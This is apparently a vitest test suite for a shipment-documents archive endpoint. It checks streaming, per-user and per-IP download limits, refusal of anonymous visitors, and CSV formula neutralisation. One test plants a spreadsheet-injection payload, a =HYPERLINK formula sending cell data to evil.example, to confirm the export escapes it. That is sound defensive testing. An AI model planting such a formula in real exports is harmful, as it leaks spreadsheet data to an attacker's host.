// Issue 12, item 3 (and item 8 for the archive's documents.csv): the documents archive is streamed, limited per
// user and per IP address, refused to the demo workspace's anonymous visitors, and its register is CSV-injection
// safe. Requests come from different loopback addresses (127.0.0.x) so per-IP limits can be told from per-user.
import { type IncomingMessage, request } from 'node:http';
import { buffer } from 'node:stream/consumers';
import { DOCUMENT_MAX_BYTES, type DocumentDto } from '@qafila/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Actors, bearer, seedActors, startTestServer, type TestServer } from './helpers.ts';
import { unzip } from './unzip.ts';

let srv: TestServer;
let actors: Actors;
beforeAll(async () => {
  srv = await startTestServer();
  actors = await seedActors(srv);
});
afterAll(() => srv.close());

/** A GET from a chosen loopback address, answered as soon as the headers arrive (the body is left unread). */
function get(path: string, options: { token?: string; from?: string } = {}): Promise<IncomingMessage> {
  return new Promise((resolve, reject) => {
    const req = request(
      `${srv.url}${path}`,
      { headers: bearer(options.token), localAddress: options.from ?? '127.0.0.1', agent: false },
      resolve,
    );
    req.on('error', reject);
    req.end();
  });
}
const archivePath = (shipmentId: number) => `/api/shipments/${shipmentId}/documents/archive`;
const errorOf = async (res: IncomingMessage) => (JSON.parse((await buffer(res)).toString()) as { error: string }).error;
const inFlight = (key: string) => srv.services.limits.archivesInFlight.active(key);
async function until(check: () => boolean) {
  for (let i = 0; i < 200 && !check(); i++) await new Promise((r) => setTimeout(r, 10));
  expect(check()).toBe(true);
}

/** A PDF of about 10 MB (valid magic bytes and trailer) whose bytes differ from one file to the next. */
const bigPdf = (seed: number) => {
  const body = Buffer.alloc(DOCUMENT_MAX_BYTES - 64);
  for (let i = 0; i < body.length; i += 4096) body[i] = (i / 4096 + seed) & 0xff;
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), body, Buffer.from('\n%%EOF\n')]);
};

async function upload(shipmentId: number, data: Buffer, fileName: string): Promise<DocumentDto> {
  const res = await srv.request(`/api/org/shipments/${shipmentId}/documents?documentType=packing_list`, {
    method: 'POST',
    headers: { 'content-type': 'application/pdf', 'x-file-name': fileName, ...bearer(actors.staffSame.token) },
    body: data,
  });
  expect(res.status).toBe(201);
  return (await res.json()) as DocumentDto;
}

describe('the documents archive (streamed)', () => {
  const pdfs = [bigPdf(1), bigPdf(2), bigPdf(3)];
  beforeAll(async () => {
    for (const [i, pdf] of pdfs.entries()) await upload(actors.customerA.shipmentId, pdf, `big-${i}.pdf`);
  });

  it('sends the headers before the archive is written (chunked, no Content-Length) and keeps serving others', async () => {
    const res = await get(archivePath(actors.customerA.shipmentId), {
      token: actors.customerA.token,
      from: '127.0.0.2',
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/zip');
    expect(res.headers['transfer-encoding']).toBe('chunked');
    expect(res.headers['content-length']).toBeUndefined();
    // The headers are here, the body unread: the archive (30 MB) is still being written.
    expect(inFlight(`user:${actors.customerA.id}`)).toBe(1);
    // The server answers others meanwhile.
    expect((await srv.request('/api/health')).status).toBe(200);

    // And the archive is correct: every file byte for byte (stored), the register naming them.
    const entries = await unzip(await buffer(res));
    for (const [i, pdf] of pdfs.entries()) expect(entries.get(`files/big-${i}.pdf`)?.equals(pdf)).toBe(true);
    const register = entries.get('documents.csv')!.toString();
    expect(register).toMatch(/^\uFEFFdocument_type,name,status,description,updated_at,file\r\n/);
    for (const i of [0, 1, 2]) expect(register).toContain(`,files/big-${i}.pdf\r\n`);
    expect(JSON.parse(entries.get('shipment.json')!.toString())).toMatchObject({
      trackingNumber: actors.customerA.trackingNumber,
    });
    await until(() => inFlight(`user:${actors.customerA.id}`) === 0);
  });

  it('allows 2 archives at a time per user and per IP address: 429 with Retry-After beyond', async () => {
    const a = actors.customerA;
    const path = archivePath(a.shipmentId);
    const held = [
      await get(path, { token: a.token, from: '127.0.0.3' }),
      await get(path, { token: a.token, from: '127.0.0.3' }),
    ];
    expect(held.map((r) => r.statusCode)).toEqual([200, 200]);

    // The same user from another address: refused (per user).
    const sameUser = await get(path, { token: a.token, from: '127.0.0.4' });
    expect(sameUser.statusCode).toBe(429);
    expect(Number(sameUser.headers['retry-after'])).toBeGreaterThan(0);
    expect(await errorOf(sameUser)).toMatch(/still downloading/);
    // Another user from the same address: refused (per IP address).
    const sameIp = await get(archivePath(1), { token: actors.staffSame.token, from: '127.0.0.3' });
    expect(sameIp.statusCode).toBe(429);
    expect(await errorOf(sameIp)).toMatch(/still downloading/);
    // Another user from another address: served.
    const other = await get(archivePath(1), { token: actors.staffSame.token, from: '127.0.0.5' });
    expect(other.statusCode).toBe(200);
    await buffer(other);

    // A download given up frees its slot.
    for (const r of held) r.destroy();
    await until(() => inFlight(`user:${a.id}`) === 0 && inFlight('ip:127.0.0.3') === 0);
    const again = await get(path, { token: a.token, from: '127.0.0.4' });
    expect(again.statusCode).toBe(200);
    again.destroy();
    await until(() => inFlight(`user:${a.id}`) === 0);
  });
});

describe('the documents archive (rate limit, visitors, CSV)', () => {
  it('allows 20 archives an hour per user and per IP address: 429 with Retry-After beyond', async () => {
    const { archivesPerHour } = srv.services.limits;
    const admin = actors.orgAdminSame;
    const staff = actors.staffSame;
    archivesPerHour.reset(`user:${admin.id}`);
    archivesPerHour.reset(`user:${staff.id}`);
    const fetchArchive = async (token: string, from: string) => {
      const res = await get(archivePath(1), { token, from });
      if (res.statusCode === 200) await buffer(res);
      return res;
    };
    // 20 for one user from two addresses (10 each) are served; the 21st, from a third address, is not.
    for (let i = 0; i < 20; i++)
      expect((await fetchArchive(admin.token, i % 2 ? '127.0.0.11' : '127.0.0.10')).statusCode).toBe(200);
    const userOver = await fetchArchive(admin.token, '127.0.0.12');
    expect(userOver.statusCode).toBe(429);
    expect(Number(userOver.headers['retry-after'])).toBeGreaterThan(3000);
    expect(await errorOf(userOver)).toMatch(/Too many document archives/);
    // Another user from an address with 10 left gets 10, then the address is over its limit.
    for (let i = 0; i < 10; i++) expect((await fetchArchive(staff.token, '127.0.0.10')).statusCode).toBe(200);
    const ipOver = await fetchArchive(staff.token, '127.0.0.10');
    expect(ipOver.statusCode).toBe(429);
    expect(Number(ipOver.headers['retry-after'])).toBeGreaterThan(0);
    // That user, from another address, is still served.
    expect((await fetchArchive(staff.token, '127.0.0.13')).statusCode).toBe(200);
  });

  it("is refused to the demo workspace's anonymous visitors, with a message", async () => {
    const res = await srv.request(archivePath(1));
    expect(res.status).toBe(401);
    expect(await res.json()).toEqual({ error: 'Sign in to download the documents archive' });
  });

  it('writes the register with formula cells neutralised, a BOM and Arabic as it is', async () => {
    const review = async (id: number, body: unknown) =>
      srv.request(`/api/org/documents/${id}/review`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...bearer(actors.staffSame.token) },
        body: JSON.stringify(body),
      });
    const pdf = Buffer.from('%PDF-1.7\nsmall\n%%EOF\n');
    const rejected = await upload(1, pdf, 'a.pdf');
    const approved = await upload(1, pdf, 'b.pdf');
    const arabic = await upload(1, pdf, 'c.pdf');
    const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
    expect((await review(rejected.id, { status: 'rejected', reason: hyperlink })).status).toBe(200);
    expect((await review(approved.id, { status: 'approved', reason: '@SUM(1)' })).status).toBe(200);
    expect((await review(arabic.id, { status: 'rejected', reason: 'الختم غير واضح، يُرجى إعادة المسح' })).status).toBe(
      200,
    );

    const res = await get(archivePath(1), { token: actors.staffSame.token, from: '127.0.0.20' });
    expect(res.statusCode).toBe(200);
    const csv = (await unzip(await buffer(res))).get('documents.csv')!;
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = csv.toString('utf8');
    expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")",`);
    expect(text).toContain(",'@SUM(1),");
    expect(text).toContain(',الختم غير واضح، يُرجى إعادة المسح,');
    // No cell of the register starts with a formula character.
    for (const line of text.replace(/^\uFEFF/, '').split('\r\n'))
      expect(line.split(',').some((cell) => /^"?[=+@\t\r]/.test(cell))).toBe(false);
  });
});
